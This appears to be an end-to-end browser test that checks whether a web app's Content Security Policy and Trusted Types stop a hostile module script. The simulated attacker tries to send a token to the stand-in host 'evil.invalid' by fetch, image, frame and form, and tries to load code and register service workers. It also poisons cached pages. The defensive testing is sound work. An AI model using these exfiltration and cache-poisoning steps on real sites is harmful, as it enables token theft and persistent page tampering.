import { expectHome } from '#e2e/support/page/screens.ts';
import { logInAndPrecache } from '#e2e/support/page/service-worker.ts';
import { expect, test } from '#e2e/support/page/test.ts';

test.use({ serviceWorkers: 'allow' });

test('A hostile script cannot send data out, load code, or leave a page or worker behind', async ({
  page,
  watch,
}) => {
  watch.tolerate(
    /^policy: |Content Security Policy|TrustedScript|TrustedHTML|evil\.invalid|ERR_|404|integrity/i,
  );
  await logInAndPrecache(page);
  const done = await page.evaluate(tryEverything);
  expect(done).toEqual([]);

  await page.goto('/');
  await expectHome(page);
  expect(await page.title()).not.toBe('poisoned');
});

/** Attacks by a module script with the Trusted Types policy of its page; returns the successful ones. */
async function tryEverything(): Promise<string[]> {
  const done: string[] = [];
  const types = Reflect.get(window, 'trustedTypes');
  const same = (text: string) => text;
  const policy = types.createPolicy('zaehlwerk-mf_management', {
    createHTML: same,
    createScript: same,
    createScriptURL: same,
  });
  const attempt = async (name: string, work: () => unknown) => {
    try {
      if ((await work()) !== false) done.push(name);
    } catch {
      // Refused.
    }
  };
  const loads = (element: HTMLElement) =>
    new Promise<boolean>(resolve => {
      element.onload = () => resolve(true);
      element.onerror = () => resolve(false);
      document.head.append(element);
    });
  const evil = 'https://evil.invalid/?token';
  const set = await (await fetch('/release-set.json')).json();
  const { base, exposed } = set.modules.find(({ name }: { name: string }) => name === 'mf-management');
  const own = policy.createScriptURL(base + exposed[0]);
  const refusedBy = (directive: string, work: () => unknown) =>
    new Promise<boolean>(resolve => {
      const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
        if (effectiveDirective !== directive) return;
        document.removeEventListener('securitypolicyviolation', listen);
        resolve(false);
      };
      document.addEventListener('securitypolicyviolation', listen);
      work();
    });

  await attempt('a policy of its own name', () => types.createPolicy('evil', { createHTML: same }));
  await attempt('the default policy', () => types.createPolicy('default', { createHTML: same }));
  await attempt('a string as HTML', () => Object.assign(document.createElement('p'), { innerHTML: '<b>' }));
  await attempt('eval', () => Reflect.get(window, 'eval')(policy.createScript('1')));
  await attempt('an inline script', () =>
    refusedBy('script-src-elem', () =>
      document.head.append(
        Object.assign(document.createElement('script'), { text: policy.createScript('1') }),
      ),
    ),
  );
  await attempt('a script without a hash', () => {
    const script = document.createElement('script');
    script.setAttribute('src', policy.createScriptURL('/service-worker.js'));
    return loads(script);
  });
  await attempt('fetch', () => fetch(evil, { mode: 'no-cors' }));
  await attempt('a picture', () => loads(Object.assign(new Image(), { src: evil })));
  await attempt('a frame', () =>
    refusedBy('frame-src', () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: evil })),
    ),
  );
  await attempt('a form', () =>
    refusedBy('form-action', () => {
      const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
      document.body.append(form);
      form.submit();
    }),
  );
  await attempt('a worker for all pages', () => navigator.serviceWorker.register(own, { scope: '/' }));
  await attempt('a worker for its folder', () => navigator.serviceWorker.register(own, { scope: base }));
  await attempt('a worker from memory', () =>
    navigator.serviceWorker.register(policy.createScriptURL(URL.createObjectURL(new Blob(['1'])))),
  );
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const { url } of await cache.keys())
      if (url.endsWith('/'))
        await cache.put(
          url,
          new Response('<title>poisoned</title>', { headers: { 'content-type': 'text/html' } }),
        );
  }
  return done;
}
